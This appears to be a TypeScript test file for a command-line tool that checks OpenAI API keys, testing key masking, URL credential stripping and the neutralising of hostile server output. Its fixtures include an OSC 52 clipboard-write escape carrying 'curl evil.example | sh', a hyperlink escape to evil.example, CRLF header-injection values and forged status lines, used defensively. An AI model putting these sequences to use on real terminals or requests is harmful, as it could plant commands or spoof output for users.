// Text the tool did not write: the key masked in every form a server or a person may give it, API
// messages and headers made one safe bounded line, URLs without credentials, --json that a terminal
// cannot act on, and the person's own bad values named before anything is sent. The pure functions
// first, then the same through the commands' run functions (a scripted API, the real state file).
import { readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { insecureTransportWarnings, untrustedResult } from '../../src/api/check.js';
import { organizationId, projectId, requestId } from '../../src/api/identifiers.js';
import { COMMANDS } from '../../src/commands/index.js';
import { DoctorJsonSchema, reachabilityCheck, run as doctor, strayVariableChecks, transportChecks } from '../../src/commands/doctor.js';
import { ProfilesJsonSchema, run as profiles } from '../../src/commands/profiles.js';
import { StatusJsonSchema, run as status } from '../../src/commands/status.js';
import { run as verify, VerifyJsonSchema, type VerifyOptions } from '../../src/commands/verify.js';
import { UsageError } from '../../src/errors.js';
import { redact, secretsInArgv } from '../../src/keys/redact.js';
import { recordCheck } from '../../src/last-check.js';
import { parseCheckFlags, parseEnv, parseFlag, HttpUrlSchema } from '../../src/options.js';
import { isOfficialBaseURL } from '../../src/platform.js';
import { ProfileNameSchema } from '../../src/storage/state.js';
import { describeKey } from '../../src/terminal/check-report.js';
import { maskKey } from '../../src/keys/format.js';
import { createTerminal } from '../../src/terminal/output.js';
import { jsonText, MAX_UNTRUSTED_LENGTH, neutralise, sanitize, shownValue, withoutCredentials, withoutUrlLogins } from '../../src/terminal/sanitize.js';
import { checkResult, makeTestContext, outcomeOf, testKey, type TestContext, type TestContextOptions } from '../helpers/context.js';

// A key of the real shape (docs/openai-api-answers.md §1.1), made up.
const KEY = `sk-proj-${'Q7w2E9r4T1'.repeat(7)}yU3i` + 'T3BlbkFJ' + `${'p0O5l8K3j6'.repeat(7)}_-Zz90`;
const BODY = KEY.slice('sk-proj-'.length);
const ESC = '\x1b';
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const LINK = `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`;
const BIDI = '\u202e'; // RIGHT-TO-LEFT OVERRIDE
const C1_CSI = '\u009b'; // the 8-bit CSI
const FORGED = 'denied\n✔ The key works and can spend.';
const DANGEROUS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2069\ufeff]/;

describe('redact: every form of a known key, and nothing else', () => {
  it('masks the whole key, its body without the prefix, and a key glued to a letter', () => {
    expect(redact(`key ${KEY}.`, [KEY])).toBe('key sk-proj-…Zz90.');
    expect(redact(`key ${BODY}.`, [KEY])).toBe('key …Zz90.');
    expect(redact(`xsk-proj-${BODY}`, [KEY])).toBe('xsk-proj-…Zz90');
    // …and without knowing the key: shaped like one, glued or bare.
    expect(redact(`xsk-proj-${BODY}`)).not.toContain(BODY.slice(0, 20));
    expect(redact(`bare ${BODY}`)).not.toContain(BODY.slice(0, 20));
    expect(redact(`proj-${BODY}`)).not.toContain(BODY.slice(0, 20));
  });

  it('masks every long piece of the key: split in two, quoted in part, cut short', () => {
    const [first, second] = [KEY.slice(0, 80), KEY.slice(80)];
    const split = redact(`first half ${first} and second half ${second}`, [KEY]);
    expect(split).toBe('first half sk-proj-… and second half …Zz90');
    const middle = KEY.slice(30, 30 + 12);
    expect(redact(`a piece: ${middle}!`, [KEY])).toBe('a piece: …!');
    // Eleven characters are not a secret's worth: ordinary text stays as it is.
    expect(redact(`short: ${KEY.slice(30, 41)}`, [KEY])).toBe(`short: ${KEY.slice(30, 41)}`);
  });

  it('leaves ordinary text alone', () => {
    const prose = [
      'The task-management-system-for-teams answered HTTP 503 (risk-assessment-module).',
      'Incorrect API key provided: sk-proj-…Zz90. You can find your API key at https://platform.openai.com/account/api-keys.',
      'Add credits on the billing page: https://platform.openai.com/settings/organization/billing/overview',
      'organization user-rk8wq9voijy9sejrncvgi0iw, project proj_0Wv6taeZjWf793P67JMswYY3',
    ];
    for (const text of prose) expect(redact(text, [KEY])).toBe(text);
  });

  it('finds on a command line the values meant as keys, shaped like one or not', () => {
    expect(secretsInArgv(['verify', '--key=hunter2hunter2'])).toEqual(['hunter2hunter2']);
    expect(secretsInArgv(['verify', '--key', 'hunter2hunter2', '--api-key', 'other-secret-1'])).toEqual(['hunter2hunter2', 'other-secret-1']);
    expect(secretsInArgv(['verify', '-khunter2hunter2'])).toEqual(['hunter2hunter2']);
    expect(secretsInArgv(['verify', '-qk', 'hunter2hunter2'])).toEqual(['hunter2hunter2']);
    expect(secretsInArgv(['OPENAI_API_KEY=hunter2hunter2'])).toEqual(['hunter2hunter2']);
    expect(secretsInArgv([KEY])).toEqual([KEY]);
    expect(secretsInArgv(['billing', '--choice', `x${KEY}`])).toEqual([KEY]);
    expect(secretsInArgv(['status', '--json', '--profile', 'work'])).toEqual([]);
    // After `--`, the words are another program's.
    expect(secretsInArgv(['run', '--', 'curl', '--key', '/etc/ssl/client.pem'])).toEqual([]);
    expect(secretsInArgv(['--key', '-'])).toEqual([]);
  });
});

describe('sanitize: untrusted text as one safe, bounded line', () => {
  it('escapes terminal sequences, C1 controls and bidi overrides', () => {
    const out = sanitize(`a${OSC52}b${CLEAR}c${LINK}d${C1_CSI}2Je${BIDI}f\u0085g\u007fh`);
    expect(out).not.toMatch(DANGEROUS);
    expect(out).toContain('\\x1b]52;c;');
    expect(out).toContain('\\x9b2J');
    expect(out).toContain('\\u202e');
  });

  it('collapses line breaks, so no line of ours can be forged', () => {
    expect(sanitize(FORGED)).toBe('denied ✔ The key works and can spend.');
    expect(sanitize('a\r\n\r\nb\u2028c\td')).toBe('a b c d');
  });

  it(`bounds the length to ${MAX_UNTRUSTED_LENGTH} characters with an ellipsis`, () => {
    const out = sanitize('x'.repeat(2 * 1024 * 1024));
    expect(out).toHaveLength(MAX_UNTRUSTED_LENGTH);
    expect(out.endsWith('…')).toBe(true);
    // Never half a surrogate pair: 9 code units would end inside the fifth emoji.
    expect(sanitize('😀'.repeat(300), 10)).toBe(`${'😀'.repeat(4)}…`);
  });

  it('takes the user name and password out of every URL in it', () => {
    expect(sanitize('GET http://user:p@ss@proxy.corp:3128/x failed')).toBe('GET http://proxy.corp:3128/x failed');
  });

  it("keeps the terminal's own colour and escapes everything else (neutralise)", () => {
    expect(neutralise(`${ESC}[32m✔${ESC}[39m ok\n`)).toBe(`${ESC}[32m✔${ESC}[39m ok\n`);
    expect(neutralise(`x${OSC52}${CLEAR}\ry${C1_CSI}${BIDI}`)).not.toMatch(/[\u001b\u0007\r\u009b\u202e]/);
    let out = '';
    const term = createTerminal({ stdout: { write: (s: string) => (out += s) }, stderr: { write: () => true }, stdin: {}, env: {} });
    term.out(`message: ${OSC52}`);
    expect(out).toBe(`message: \\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\\x07\n`);
  });

  it('--json escapes what JSON.stringify leaves raw: DEL, C1, bidi, line separators', () => {
    const text = jsonText({ message: `a\u007fb\u009bc\u202ed\u2028e\u2066f` });
    expect(text).not.toMatch(DANGEROUS);
    expect(JSON.parse(text)).toEqual({ message: `a\u007fb\u009bc\u202ed\u2028e\u2066f` });
  });
});

describe('URLs without credentials', () => {
  it('strips the user name and password, a password with "@", "/" or "#" entirely', () => {
    expect(withoutCredentials('http://user:pass@host:8080/v1')).toBe('http://host:8080/v1');
    expect(withoutCredentials('http://user:p@ss@host:8080/v1')).toBe('http://host:8080/v1');
    expect(withoutCredentials('user:p@ss@host:3128')).toBe('host:3128');
    // Quoted (a .env line's quotes copied with it): the quotes and the scheme stay, to show what is wrong.
    expect(withoutCredentials(`'http://u:secretpw@127.0.0.1:18453/v1'`)).toBe(`'http://127.0.0.1:18453/v1'`);
    expect(withoutCredentials('"https://user:p@ss@proxy.corp/v1"')).toBe('"https://proxy.corp/v1"');
    expect(withoutCredentials('http://user:pa/ss@host:3128')).toBe('http://host:3128');
    expect(withoutCredentials('http://user:pa#ss@host:3128')).toBe('http://host:3128');
    expect(withoutCredentials('https://api.openai.com/v1')).toBe('https://api.openai.com/v1');
    expect(withoutCredentials('https://host/v1/@scope/x')).toBe('https://host/v1/@scope/x');
  });

  it('a password with "@" and "/" in it, which a URL parser reads as a host and a path, goes whole: parsed or not, in a value or in a text', () => {
    // new URL() reads `http://alice:p@ss/w0rd@proxy.example.com:3128` as the host "ss" and the path "/w0rd@proxy…".
    expect(withoutCredentials('http://alice:p@ss/w0rd@proxy.example.com:3128')).toBe('http://proxy.example.com:3128');
    expect(withoutCredentials('http://alice:p@ss/w0rd@127.0.0.1:8080/v1')).toBe('http://127.0.0.1:8080/v1');
    expect(withoutCredentials('http://alice:p@ss/w/0rd@127.0.0.1:8080/v1?api-version=1#x')).toBe('http://127.0.0.1:8080/v1?api-version=1#x');
    expect(withoutCredentials('alice:p@ss/w0rd@proxy.example.com:3128')).toBe('proxy.example.com:3128');
    expect(withoutUrlLogins('the host of the proxy http://alice:p@ss/w0rd@proxy.example.com:3128 was not found')).toBe('the host of the proxy http://proxy.example.com:3128 was not found');
    expect(withoutUrlLogins('a http://u:p@ss/x@h/v1?q=a@b b https://host/v1/@scope c')).toBe('a http://h/v1?q=a@b b https://host/v1/@scope c');
    expect(sanitize('proxy http://alice:p@ss/w0rd@proxy.example.com:3128 failed')).toBe('proxy http://proxy.example.com:3128 failed');
    expect(shownValue('http://alice:p@ss/w0rd@127.0.0.1:8080/v1')).toBe('http://127.0.0.1:8080/v1');
  });

  // An "@" in the path after a login: up to it goes, as no rule tells it from a password ending
  // in "/" (`u:p@ss/@proxy`) or holding "@" and "/": no part of a password is ever shown. With no
  // login, nothing goes.
  it.each([
    ['https://u:p@host/users/@me', 'https://me'],
    ['https://host/users/@me', 'https://host/users/@me'],
    ['https://u:p@host/a@b?x=1', 'https://b?x=1'],
    ['http://alice:p@ss.x/w0rd@proxy', 'http://proxy'],
    ['http://u:p@ss/x@h?q', 'http://h?q'],
    // A password ending in "/": whole, also before a path with "@".
    ['http://john@corp.com:Tr0ub4dor/@proxy.corp:3128', 'http://proxy.corp:3128'],
    ['https://alice:p@ss/w0rd/@proxy.example/v1', 'https://proxy.example/v1'],
    ['http://alice:p@ss/w0rd@proxy.example.com:3128/@me', 'http://me'],
    // Not a URL (quoted, or a proxy without a scheme): the same.
    [`'https://u:p@host/users/@me'`, `'https://me'`],
    ['u:p@host/users/@me', 'me'],
    ['alice:p@ss/@proxy:8080', 'proxy:8080'],
    ['http://user:pa/@host:3128', 'http://host:3128'],
  ])('an "@" in the path: %s is shown as %s', (url, shown) => {
    expect(withoutCredentials(url)).toBe(shown);
    expect(shownValue(url)).toBe(shown);
    // In a text, a URL is one with a scheme and a login before its first "/".
    if (/^'?https?:\/\/[^/]*@/.test(url)) expect(sanitize(`GET ${url} failed`)).toBe(`GET ${shown} failed`);
  });

  it("an echoed flag or variable of the person's own: no credentials, controls shown escaped", () => {
    expect(shownValue('ftp://user:secret@host/v1')).toBe('ftp://host/v1');
    expect(shownValue('org-1\r\nX-Evil: 1')).toBe('org-1\\x0d\\x0aX-Evil: 1');
    expect(() => parseFlag('--base-url', HttpUrlSchema, 'ftp://me:s3cret@host/v1')).toThrow(/got "ftp:\/\/host\/v1"/);
    try {
      void parseEnv({ OPENAI_BASE_URL: 'http://me:s3cret@ho st/v1' }).OPENAI_BASE_URL;
      expect.unreachable();
    } catch (error) {
      expect((error as Error).message).not.toContain('s3cret');
    }
  });
});

describe("the person's own words, echoed in an error", () => {
  it('an unknown page name is quoted with its escapes shown, on one line', () => {
    const open = COMMANDS.find((c) => c.name === 'open')!;
    expect(() => open.parse({ args: [`keys${CLEAR}\n✔ forged`], opts: {}, globals: {} as never, program: undefined as never })).toThrow(
      'open: name a page: login, payment, billing, limits, keys, user-keys, admin-keys, usage, organization, credit-grants (got "keys\\x1b[2J\\x1b[H\\x0a✔ forged").',
    );
  });
});

describe('a bad variable reads as a bad flag does: its name, a colon, what is wrong', () => {
  it('OPENAI_SETUP_PROFILE and --profile', () => {
    const why = 'use 1–64 letters, digits, "-" or "_", starting with a letter or digit (got "bad name").';
    expect(() => parseEnv({ OPENAI_SETUP_PROFILE: 'bad name' })).toThrow(new UsageError(`OPENAI_SETUP_PROFILE: ${why}`));
    expect(() => parseFlag('--profile', ProfileNameSchema, 'bad name')).toThrow(new UsageError(`--profile: ${why}`));
  });
});

describe('OPENAI_ORG_ID and OPENAI_PROJECT_ID are header values', () => {
  it.each([
    ['OPENAI_ORG_ID', 'org-abc\r\nX-Injected: 1', /line breaks or other control characters/],
    ['OPENAI_ORG_ID', 'org-abc\u0000', /control characters/],
    ['OPENAI_PROJECT_ID', 'proj_abc\u0085', /control characters/],
    ['OPENAI_PROJECT_ID', 'proj_абв', /Latin-1/],
  ])('%s=%j is a usage error naming the variable', (name, value, why) => {
    expect(() => parseEnv({ [name]: value })).toThrow(UsageError);
    expect(() => parseEnv({ [name]: value })).toThrow(new RegExp(`^${name}: `));
    expect(() => parseEnv({ [name]: value })).toThrow(why);
  });

  it('ordinary values pass', () => {
    expect(parseEnv({ OPENAI_ORG_ID: ' org-AbC123 ', OPENAI_PROJECT_ID: 'proj_Xyz' })).toMatchObject({ OPENAI_ORG_ID: 'org-AbC123', OPENAI_PROJECT_ID: 'proj_Xyz' });
  });
});

describe('organization, project and request id: only in their documented shapes', () => {
  it('keeps org-…, user-…, an organization slug, proj_…, req_…', () => {
    expect(organizationId('org-AbC123')).toBe('org-AbC123');
    expect(organizationId('user-rk8wq9voijy9sejrncvgi0iw')).toBe('user-rk8wq9voijy9sejrncvgi0iw');
    expect(organizationId('new-relic-nkmd8b')).toBe('new-relic-nkmd8b');
    expect(projectId('proj_0Wv6taeZjWf793P67JMswYY3')).toBe('proj_0Wv6taeZjWf793P67JMswYY3');
    expect(requestId('req_1addfc2e713648af834cb9992fd417d7')).toBe('req_1addfc2e713648af834cb9992fd417d7');
  });

  it('drops the key, a piece of it, escapes, text and anything too long', () => {
    for (const value of [KEY, BODY, `user-${BODY.slice(0, 30).replace(/[_-]/g, '')}`, `org-x${ESC}[2J`, 'org-a b', 'Acme Corp', `org-${'a'.repeat(80)}`, '']) {
      expect(organizationId(value, [KEY]), value).toBeNull();
    }
    for (const value of [KEY, `proj_${BODY.slice(0, 30).replace(/[_-]/g, '')}`, 'proj_x\ny', `proj_${BIDI}abc`, 'project']) {
      expect(projectId(value, [KEY]), value).toBeNull();
    }
    expect(requestId(`req_1\n✔ ok`)).toBeNull();
  });
});

describe('insecure transport', () => {
  it('the official API is https://api.openai.com only', () => {
    expect(isOfficialBaseURL('https://api.openai.com/v1')).toBe(true);
    expect(isOfficialBaseURL('http://api.openai.com/v1')).toBe(false);
  });

  it('warns when TLS checks are off, and for plain http:// to another machine only', () => {
    expect(insecureTransportWarnings({}, 'https://api.openai.com/v1')).toEqual([]);
    expect(insecureTransportWarnings({ NODE_TLS_REJECT_UNAUTHORIZED: '0' }, 'https://api.openai.com/v1')).toEqual([expect.stringMatching(/^NODE_TLS_REJECT_UNAUTHORIZED=0 is set: TLS certificates are not checked/)]);
    expect(insecureTransportWarnings({ NODE_TLS_REJECT_UNAUTHORIZED: '1' }, 'https://api.openai.com/v1')).toEqual([]);
    expect(insecureTransportWarnings({}, 'http://me:pw@gateway.corp:8080/v1')).toEqual(['http://gateway.corp:8080/v1 is plain http:// to another machine: the key travels in clear text. Use https://.']);
    for (const local of ['http://127.0.0.1:1234/v1', 'http://localhost:11434/v1', 'http://[::1]:8080/v1', 'http://ollama.localhost/v1']) {
      expect(insecureTransportWarnings({}, local)).toEqual([]);
    }
    expect(transportChecks({ NODE_TLS_REJECT_UNAUTHORIZED: '0' }, 'http://api.openai.com/v1').map((c) => [c.id, c.status])).toEqual([
      ['NODE_TLS_REJECT_UNAUTHORIZED', 'warn'],
      ['transport', 'warn'],
    ]);
  });
});

// ---------------------------------------------------------------------------------------------
// Through the commands

let t: TestContext;
afterEach(() => t?.cleanup());

function context(options: TestContextOptions = {}): TestContext {
  t = makeTestContext(options);
  return t;
}

const VERIFY: VerifyOptions = { json: false, quiet: false, billingCheck: true };

/** A result as a hostile or broken endpoint could make the real check give it. */
function hostileResult() {
  return checkResult('invalid_key', {
    message: `The API rejected the key: ${FORGED} ${OSC52}${CLEAR}${LINK}${C1_CSI}${BIDI} ${BODY} ${'A'.repeat(2 * 1024 * 1024)}`,
    reason: `invalid${ESC}[2J`,
    organization: KEY,
    project: `proj_${ESC}]52;c;AAAA\x07`,
    requestId: `req_${KEY}`,
    warnings: [`warn\n✔ forged ${OSC52}`],
  });
}

describe('a check result is made safe where the commands receive it', () => {
  it('untrustedResult: one bounded line per text, the key masked, headers in shape or null', () => {
    const safe = untrustedResult(hostileResult(), KEY);
    for (const text of [safe.message, safe.reason!, ...safe.warnings]) {
      expect(text).not.toMatch(DANGEROUS);
      expect(text).not.toContain('\n');
      expect(text.length).toBeLessThanOrEqual(MAX_UNTRUSTED_LENGTH);
      expect(text).not.toContain(BODY.slice(0, 12));
    }
    expect(safe).toMatchObject({ organization: null, project: null, requestId: null });
  });

  it('verify prints the hostile answer as one safe line and never the key', async () => {
    context({ env: { OPENAI_API_KEY: KEY } });
    t.api.answerChecks(hostileResult());
    expect(await verify(t.ctx, VERIFY)).toBe(3);
    const output = t.stdout + t.stderr;
    expect(output).not.toMatch(DANGEROUS);
    expect(output).not.toContain(BODY.slice(0, 12));
    expect(output.split('\n').filter((l) => l.includes('The key works'))).toEqual([expect.stringMatching(/^✖ The API rejected the key: denied ✔ The key works/)]);
    expect(output.length).toBeLessThan(5000);
    t.assertScriptsUsed();
  });

  it('verify --json: the same, and the base URL without credentials', async () => {
    context({ env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: 'https://me:s3cret@gateway.corp/v1' } });
    t.api.answerChecks(hostileResult());
    expect(await verify(t.ctx, { ...VERIFY, json: true })).toBe(3);
    expect(t.stdout).not.toMatch(DANGEROUS);
    const json = VerifyJsonSchema.parse(JSON.parse(t.stdout));
    expect(json).toMatchObject({ baseURL: 'https://gateway.corp/v1', organization: null, project: null, requestId: null });
    expect(json.message.length).toBeLessThanOrEqual(MAX_UNTRUSTED_LENGTH);
    expect(t.stdout + t.stderr).not.toContain('s3cret');
  });

  it('verify names a server that is not the OpenAI API', async () => {
    context({ env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: 'http://me:s3cret@127.0.0.1:8080/v1' } });
    t.api.answerChecks(checkResult('valid'));
    expect(await verify(t.ctx, VERIFY)).toBe(0);
    expect(t.stdout).toContain('! Server      http://127.0.0.1:8080/v1 (not the OpenAI API)\n');
    expect(t.stdout + t.stderr).not.toContain('s3cret');

    context({ env: { OPENAI_API_KEY: KEY } });
    t.api.answerChecks(checkResult('valid'));
    expect(await verify(t.ctx, VERIFY)).toBe(0);
    expect(t.stdout).not.toContain('Server');
  });

  it('the state file keeps only the safe result', async () => {
    context({ env: { OPENAI_API_KEY: KEY } });
    t.api.answerChecks(hostileResult());
    await verify(t.ctx, VERIFY);
    const stored = readFileSync(join(t.configDir, 'state.json'), 'utf8');
    expect(stored).not.toContain(BODY.slice(0, 12));
    expect(stored).not.toMatch(/\\u001b|\\u009b|\u202e/);
    const last = (await t.profile())!.lastVerify!;
    expect(last).toMatchObject({ organization: null, project: null });
    expect(last.message.length).toBeLessThanOrEqual(MAX_UNTRUSTED_LENGTH);
  });

  it('recordCheck drops header values that are not in shape, even from an Api that let them through', async () => {
    context();
    await recordCheck(t.ctx, 'default', KEY, { kind: 'env', label: 'OPENAI_API_KEY' }, checkResult('valid', { organization: `user-${'x'.repeat(4)}\n✔ forged`, project: KEY, message: `ok\n${OSC52}` }));
    expect((await t.profile())!.lastVerify).toMatchObject({ organization: null, project: null, message: expect.not.stringMatching(DANGEROUS) });
  });

  it('a state file written by hand (or by an older version) is shown safely by status and profiles', async () => {
    context({ keychain: { default: testKey('A') } });
    mkdirSync(t.configDir, { recursive: true });
    const hostile = `${FORGED} ${OSC52}${BIDI}${C1_CSI}`;
    writeFileSync(
      join(t.configDir, 'state.json'),
      JSON.stringify({
        version: 1,
        profiles: {
          default: {
            stages: {},
            // A hint or a project id of another shape makes the file damaged (the test after this one).
            key: { storage: 'keychain', hint: 'sk-proj-…A000', savedAt: '2026-01-01T00:00:00.000Z' },
            lastVerify: { at: '2026-01-01T00:00:00.000Z', status: 'invalid_key', ok: false, keyHint: 'sk-…x', keySource: `env${BIDI}`, organization: `org-1${ESC}]8;;x`, project: null, tier: null, billing: 'unchecked', message: `${hostile} ${'B'.repeat(100_000)}` },
          },
        },
      }),
    );
    expect(await status(t.ctx, { json: false })).toBe(0);
    expect(await status(t.ctx, { json: true })).toBe(0);
    expect(await profiles(t.ctx, { json: false, names: false })).toBe(0);
    expect(await profiles(t.ctx, { json: true, names: false })).toBe(0);
    const out = t.stdout;
    expect(out).not.toMatch(DANGEROUS);
    expect(out).not.toContain(BODY.slice(0, 12));
    // One line of status says it, inside the last check's message; none starts with it.
    expect(out.split('\n').filter((l) => /^\S*\s*✔ The key works/.test(l))).toEqual([]);
    expect(out).toMatch(/^✖ Last check .* denied ✔ The key works and can spend\. \\x1b\]52;c;/m);
    expect(out.length).toBeLessThan(6000);
    const [statusJson, profilesJson] = out.split(/\n(?=\{)/).filter((chunk) => chunk.startsWith('{')).map((chunk) => JSON.parse(chunk.slice(0, chunk.lastIndexOf('}') + 1)) as unknown);
    expect(StatusJsonSchema.parse(statusJson).lastVerify).toMatchObject({ organization: null, project: null });
    expect(ProfilesJsonSchema.parse(profilesJson).profiles[0]).toMatchObject({ organization: null, project: null });
  });

  it('doctor: variables, the reachability probe and the live check shown safely; insecure transport is a warning', async () => {
    context({ env: { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: 'http://me:s3cret@gateway.corp/v1', NODE_TLS_REJECT_UNAUTHORIZED: '0', NODE_EXTRA_CA_CERTS: `/tmp/x${ESC}[2J\nforged` } });
    t.api.answerReach({ reached: true, status: 401, json: true, ms: 5 }).answerChecks(hostileResult());
    expect(await doctor(t.ctx, { json: true })).toBe(3);
    expect(t.stdout).not.toMatch(DANGEROUS);
    expect(t.stdout + t.stderr).not.toContain('s3cret');
    expect(t.stdout).not.toContain(BODY.slice(0, 12));
    const report = DoctorJsonSchema.parse(JSON.parse(t.stdout));
    expect(report.checks.map((c) => [c.id, c.status])).toEqual(expect.arrayContaining([['NODE_TLS_REJECT_UNAUTHORIZED', 'warn'], ['transport', 'warn']]));
    for (const c of report.checks) expect(c.detail).not.toContain('\n');
    // Said once, as checks: not again on stderr by the live check.
    expect(t.stderr).not.toContain('NODE_TLS_REJECT_UNAUTHORIZED');
    expect(strayVariableChecks({ OPENAI_ORG_ID: `org-1${ESC}[2J` }, 'linux')[0]!.detail).not.toMatch(DANGEROUS);
    // An error without a code is said by its text (the live check's words): one line, made safe.
    expect(reachabilityCheck('http://me:s3cret@h/v1', { reached: false, code: '', detail: `reset\n✔ forged${OSC52}` }).detail).toBe('Could not reach h: reset ✔ forged\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
  });

  it('the insecure-transport warning goes to stderr once, with --quiet too (a quiet check sending the key unprotected leaves a trace in its log)', async () => {
    context({ env: { OPENAI_API_KEY: KEY, NODE_TLS_REJECT_UNAUTHORIZED: '0' } });
    t.api.answerChecks(checkResult('valid'));
    expect(await verify(t.ctx, { ...VERIFY, json: true })).toBe(0);
    expect(t.stderr.split('\n').filter((l) => l.includes('NODE_TLS_REJECT_UNAUTHORIZED=0'))).toHaveLength(1);

    context({ env: { OPENAI_API_KEY: KEY, NODE_TLS_REJECT_UNAUTHORIZED: '0' } });
    t.api.answerChecks(checkResult('valid'));
    expect(await outcomeOf(verify(t.ctx, { ...VERIFY, quiet: true }))).toMatchObject({ code: 0 });
    expect(t.stderr).toBe('! NODE_TLS_REJECT_UNAUTHORIZED=0 is set: TLS certificates are not checked, so anyone on the network path can read the key. Unset it (for a company proxy, set NODE_EXTRA_CA_CERTS instead).\n');
    expect(t.stdout).toBe('');
  });
});

describe('a key hint and the key line of a check report: one line of safe characters', () => {
  it.each([
    ['a line break and more after the key', `${KEY}\nxyz`],
    ['CRLF and an escape sequence', `${KEY}\r\n${CLEAR}`],
    ['an OSC 52 clipboard write', `${OSC52}${KEY}${OSC52}`],
    ['a bidi override and a C1 CSI', `${KEY}${BIDI}${C1_CSI}`],
    ['a Unicode line separator', `${KEY}\u2028ab`],
  ])('%s', (_name, key) => {
    for (const shown of [maskKey(key), describeKey(key, { kind: 'env', label: 'OPENAI_API_KEY' })]) {
      expect(shown).not.toMatch(DANGEROUS);
      expect(shown).not.toMatch(/[\n\r]/);
      expect(shown).not.toContain(BODY.slice(0, 12));
    }
  });
});

describe('a base URL whose password holds "@" and "/" unencoded', () => {
  // A URL reader takes `alice:p@ss/w0rd@127.0.0.1` for the host "ss": the key would go to a host
  // made of part of the password, and the password would be shown in part as a host and a path.
  it('--base-url and OPENAI_BASE_URL are refused as a usage error naming how to write it, no part of the password shown', () => {
    const url = 'http://alice:p@ss/w0rd@127.0.0.1:8080/v1';
    for (const attempt of [() => parseCheckFlags({ baseUrl: url }), () => parseEnv({ OPENAI_BASE_URL: url }).OPENAI_BASE_URL]) {
      let message = '';
      try {
        attempt();
      } catch (error) {
        message = (error as Error).message;
      }
      expect(message).toMatch(/^(?:--base-url|OPENAI_BASE_URL): must have "@" and "\/" in its user name or password written as %40 and %2F .*\(got "http:\/\/127\.0\.0\.1:8080\/v1"\)\.$/);
      expect(message).not.toMatch(/w0rd|alice|ss\//);
    }
  });

  it('a login of its own, an "@" in the path alone, or the password encoded: accepted as before', () => {
    for (const url of ['http://alice:p%40ss%2Fw0rd@127.0.0.1:8080/v1', 'http://alice:p@ss@127.0.0.1:8080/v1', 'https://host/v1/@scope/x', 'https://u:p@host/v1?q=a/b@c']) {
      expect(parseCheckFlags({ baseUrl: url }).baseURL).toBe(url);
    }
  });
});
